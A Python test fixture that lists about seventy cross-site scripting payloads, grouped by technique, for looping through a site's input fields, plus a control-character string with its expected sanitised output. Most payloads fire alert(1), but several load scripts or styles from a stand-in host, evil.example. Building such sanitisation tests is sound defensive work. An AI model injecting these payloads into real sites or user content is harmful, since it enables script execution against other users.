"""Cross-site scripting payloads, pushed through every field a person can type into.

Each is short enough for a 200-character title once a marker is put in front.
Grouped by trick; the test files loop over PAYLOADS.
"""
from __future__ import annotations

PAYLOADS: list[str] = [
    # Script tags, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script/src=//evil.example/x.js>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=\"alert(1)\"/>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=\"/\" onclick=\"alert(1)\">click</a>",
    # javascript:, data: and vbscript: in Markdown links and images.
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me]( javascript:alert(1) )",
    "[click me](javascript&#58;alert(1))",
    "[click me](java\tscript:alert(1))",
    "[click me](&#106;avascript:alert(1))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click me](vbscript:msgbox(1))",
    "![image](javascript:alert(1))",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[click](<javascript:alert(1)>)",
    "[a](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
    # Raw HTML links with dangerous schemes.
    "<a href=\"javascript:alert(1)\">raw link</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">raw data</a>",
    "<a href=\"vbscript:msgbox(1)\">raw vb</a>",
    # SVG, MathML, frames, objects.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    # Style and expression().
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
    # HTML entities and encodings.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # Broken and nested tags.
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<a href=\"javascript:alert(1)\"",
    "<img/src=x/onerror=alert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Attribute breakouts with quotes.
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\"/><svg/onload=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    # Markdown and autolink tricks.
    "[x](https://ok.example\"onmouseover=\"alert(1))",
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "> <iframe src=//evil.example>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
]

assert len(PAYLOADS) >= 50
assert all(len(p) <= 180 for p in PAYLOADS), [p for p in PAYLOADS if len(p) > 180]

# Characters that XML and HTML cannot carry (NUL, the other C0 controls but tab, newline and carriage return, DEL,
# the C1 controls): refused by every form, and removed from every feed, calendar and CSV export on the way out.
UNSHOWABLE = "".join(chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, *range(0x80, 0xA0)))
# One text that is both: a marker to find it by, every unshowable character, and live markup.
HOSTILE = "Hostile \x00NUL\x1b[31m" + UNSHOWABLE + " <script>alert(1)</script>\x85 end"
HOSTILE_SHOWN = "Hostile NUL[31m <script>alert(1)</script> end"  # what is left once cleaned
assert len(HOSTILE) <= 150
